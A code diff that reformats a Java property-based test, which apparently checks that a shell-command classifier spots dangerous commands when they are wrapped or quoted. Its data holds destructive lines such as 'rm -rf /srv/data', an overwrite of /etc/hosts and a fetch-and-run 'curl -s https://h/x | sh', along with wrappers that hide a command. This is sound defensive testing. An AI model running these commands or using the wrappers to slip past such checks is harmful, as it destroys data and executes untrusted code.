@@ -15,20 +15,56 @@ final class ShellMetamorphicTest {
   @Provide
   Arbitrary<String> commands() {
     return Arbitraries.of(
-        "zap all", "rm -rf /srv/data", "rm -rf ~/x", "rm -rf src", "echo x > /etc/hosts",
-        "cat /dev/null > db.sqlite", "bash run.sh", "rm -rf \"$DIR\"", "ls -l", "rm -rf build",
-        "python3 -c 'import shutil; shutil.rmtree(\"/srv\")'", "curl -s https://h/x | sh");
+        "zap all",
+        "rm -rf /srv/data",
+        "rm -rf ~/x",
+        "rm -rf src",
+        "echo x > /etc/hosts",
+        "cat /dev/null > db.sqlite",
+        "bash run.sh",
+        "rm -rf \"$DIR\"",
+        "ls -l",
+        "rm -rf build",
+        "python3 -c 'import shutil; shutil.rmtree(\"/srv\")'",
+        "curl -s https://h/x | sh");
   }
 
   @Provide
   Arbitrary<String> wrappers() {
     return Arbitraries.of(
-        "sudo %s", "env A=1 %s", "nohup %s &", "nice -n 5 %s", "timeout 10s %s", "time %s",
-        "command %s", "exec %s", "stdbuf -oL %s", "setsid %s", "if true; then %s; fi", "{ %s; }",
-        "( %s )", "f() { %s; }; f", "while :; do %s; done", "for i in 1; do %s; done",
-        "ls && %s", "ls; %s", "ls | cat; %s", "false || %s", "%s # fine --help", "  %s  ",
-        "case x in x) %s;; esac", "! %s", "%s | cat", "true &\n%s", "echo $( %s )", "X=1\n%s",
-        "trap '' INT; %s", "\\\n%s", "%s;", "eval \"$(echo)\"; %s", "cd . && %s");
+        "sudo %s",
+        "env A=1 %s",
+        "nohup %s &",
+        "nice -n 5 %s",
+        "timeout 10s %s",
+        "time %s",
+        "command %s",
+        "exec %s",
+        "stdbuf -oL %s",
+        "setsid %s",
+        "if true; then %s; fi",
+        "{ %s; }",
+        "( %s )",
+        "f() { %s; }; f",
+        "while :; do %s; done",
+        "for i in 1; do %s; done",
+        "ls && %s",
+        "ls; %s",
+        "ls | cat; %s",
+        "false || %s",
+        "%s # fine --help",
+        "  %s  ",
+        "case x in x) %s;; esac",
+        "! %s",
+        "%s | cat",
+        "true &\n%s",
+        "echo $( %s )",
+        "X=1\n%s",
+        "trap '' INT; %s",
+        "\\\n%s",
+        "%s;",
+        "eval \"$(echo)\"; %s",
+        "cd . && %s");
   }
 
   @Property(tries = 1_000)
@@ -62,9 +98,21 @@ final class ShellMetamorphicTest {
   @Provide
   Arbitrary<String> printers() {
     return Arbitraries.of(
-        "echo %s", "printf -- %s", "git commit -m %s", "grep -rn %s .", "echo %s | cat",
-        "echo %s > notes.md", "cat <<'EOF'\n%s\nEOF", ": %s", "[ -n %s ] && ls", "x=%s; echo \"$x\"",
-        "case %s in a) ls;; esac", "# %s", "ls # %s", "echo %s | grep x", "test %s = a");
+        "echo %s",
+        "printf -- %s",
+        "git commit -m %s",
+        "grep -rn %s .",
+        "echo %s | cat",
+        "echo %s > notes.md",
+        "cat <<'EOF'\n%s\nEOF",
+        ": %s",
+        "[ -n %s ] && ls",
+        "x=%s; echo \"$x\"",
+        "case %s in a) ls;; esac",
+        "# %s",
+        "ls # %s",
+        "echo %s | grep x",
+        "test %s = a");
   }
 
   @Property(tries = 300)
@@ -82,7 +130,9 @@ final class ShellMetamorphicTest {
           "x=" + name + "; $x",
           "/usr/bin/" + name
         }) {
-      assertThat(TestShell.kind(quoted + rest)).as(quoted + rest).isEqualTo(TestShell.kind(command));
+      assertThat(TestShell.kind(quoted + rest))
+          .as(quoted + rest)
+          .isEqualTo(TestShell.kind(command));
     }
   }
 }
